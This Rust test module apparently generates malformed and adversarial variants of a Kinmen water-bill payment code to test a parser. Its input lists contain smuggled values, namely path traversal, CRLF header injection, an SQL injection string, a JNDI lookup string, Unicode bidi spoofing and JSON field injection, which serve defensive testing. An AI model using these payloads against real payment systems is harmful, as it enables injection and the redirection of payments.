//! A good code with something else in one field.

use super::{MERCHANT, NUMBER, PAYEE, encoded, good};

pub(super) fn numbers(trap: &str) -> Vec<String> {
    let long = "2037199".repeat(100);
    let numbers = [
        "../../payments",
        "2037199/../../../v1/payments",
        "2037199/bills",
        "2037199%2F..%2F..",
        "2037199%5C..%5C..",
        "..",
        "%2e%2e%2f",
        "2037199?x=1",
        "2037199%3Fx%3D1",
        "2037199#",
        "2037199%23",
        "2037199%00",
        "2037199%0d%0aHost:%20example.tw",
        "2037199%20",
        "+2037199",
        "-2037199",
        "2037199.0",
        "2.037199e6",
        "0x1f1aef",
        "２０３７１９９",
        "٢٠٣٧١٩٩",
        "۲۰۳۷۱۹۹",
        "२०३७१९९",
        "২০৩৭১৯৯",
        "๒๐๓๗๑๙๙",
        "②⓪③⑦①⑨⑨",
        "二〇三七一九九",
        "貳零參柒壹玖玖",
        "²⁰³⁷¹⁹⁹",
        "𝟚𝟘𝟛𝟟𝟙𝟡𝟡",
        "2037\u{200B}199",
        "2037\u{202E}199",
        "\u{2067}2037199\u{2069}",
        "2037199\u{FE0F}",
        "20371999",
        "203719",
        "K1234567890",
        "9112430446",
        &long,
        "",
        "' OR 1=1 --",
        "{{7*7}}",
        "${jndi:ldap://example.tw}",
        "2037199;2037198",
        "2037199,2037198",
        "0000000",
        "9999999",
    ];
    let around = format!("http://{trap}/?fee_name=KinmenWater&WaterNo=");
    let without_number = encoded(&good().replace(&format!("&D7={NUMBER}"), ""));
    let twice = numbers.into_iter().flat_map(|number| {
        let in_code = good().replace(&format!("D7={NUMBER}"), &format!("D7={number}"));
        [in_code, format!("{around}{number}&{without_number}")]
    });
    twice.collect()
}

pub(super) fn amounts() -> Vec<String> {
    let amounts = [
        "0",
        "1",
        "00",
        "-220900",
        "+220900",
        "220900.00",
        "2209e2",
        "0x35ee4",
        "２２０９００",
        "٢٢٠٩٠٠",
        "220901",
        "99999999999999999999",
        "18446744073709551616",
        "NaN",
        "Infinity",
        "",
        " 220900",
        "220900%20",
        "220,900",
        "220900\u{0}",
        "220900\u{202E}",
    ];
    amounts.into_iter().map(|amount| good().replace("D1=220900", &format!("D1={amount}"))).collect()
}

pub(super) fn payee_names(trap: &str) -> Vec<String> {
    let address = format!("http:%2F%2F{trap}%2F");
    let names = [
        "王小明",
        "貪心商行",
        "金門縣自來水厰",
        "金門县自来水厂",
        "金門縣自來水廠 ",
        "金門縣自來水廠（代收）",
        "金\u{200B}門縣自來水廠",
        "\u{202E}廠水來自縣門金\u{202C}",
        "金門縣自來水廠\u{202E}行商心貪",
        "\u{2066}金門縣自來水廠\u{2069}行",
        "\u{FEFF}金門縣自來水廠",
        "金門縣自來水廠%00貪心商行",
        "金門縣自來水廠%0a貪心商行",
        "金門縣自來水廠%2F貪心商行",
        "金門縣自來水廠%3Fpayee=x",
        "xn--9rq178ap5jworfke3z2av2f",
        "xn--9rq178ap5jworfke3z2av2g",
        "xn--",
        "Kinmen County Waterworks",
        "kinmen-waterworks",
        "臺北自來水事業處",
        "台灣自來水",
        "<b>金門縣自來水廠</b>",
        "金門縣自來水廠\",\"payee_id\":\"somebody-else",
        "",
        &address,
    ];
    names.into_iter().map(|name| good().replace(PAYEE, name)).collect()
}

pub(super) fn payee_accounts() -> Vec<String> {
    let digits = |text: &str| format!("{text:0<34}");
    let accounts = [
        // Other banks, other merchants of the same bank, and more than one.
        format!("00,{}", digits("812")),
        format!("00,{}", digits("700006522424455500")),
        format!("00,{}", digits("004999999999999999")),
        format!("00,{}", digits("461461100005130001")),
        format!("00,{}", digits("006006522424445500")),
        format!("00,{MERCHANT};01,{}", digits("812")),
        format!("01,{};00,{MERCHANT}", digits("812")),
        format!("00,{MERCHANT};00,{}", digits("700")),
        format!("99,{MERCHANT}"),
        format!("00,{MERCHANT}0"),
        format!("00,{}", &MERCHANT[1..]),
        format!("00;{MERCHANT}"),
        MERCHANT.to_owned(),
        String::new(),
        "00,金門縣自來水廠".to_owned(),
        "00,００４００６５２２４２４４５５５００５５０００００１００１６１７７７".to_owned(),
    ];
    let unnamed = good().replace(PAYEE, "水費");
    let own_transfer = ["D5=004", "D6=0000000089478", "D5=812&D6=0000123456789012", "D9=王小明", "D2=000123"];
    let with = |field: &str| format!("{}&{field}", good());
    let changed = accounts
        .iter()
        .flat_map(|account| [&good(), &unnamed].map(|code| code.replace(&format!("00,{MERCHANT}"), account)));
    changed.chain(own_transfer.into_iter().map(with)).collect()
}

pub(super) fn purposes() -> Vec<String> {
    let purposes = [
        "158/01/V1",
        "158/02/V1",
        "158/51/V1",
        "158/04/V1",
        "158/00/V1",
        "158/3/V1",
        "158/03/V2",
        "840/03/V1",
        "158/03",
        "158",
        "158/03/V1/../../01/V1",
        "158/0３/V1",
        "158/03%2F01/V1",
    ];
    let of_code = purposes.into_iter().map(|purpose| good().replace("158/03/V1", purpose));
    let kinds = ["2,FN046286,201903", "1,,", "9,FN000000,209912", "2,FN046286,201903;1,x,y"];
    of_code.chain(kinds.into_iter().map(|kind| format!("{}&D14={kind}", good()))).collect()
}
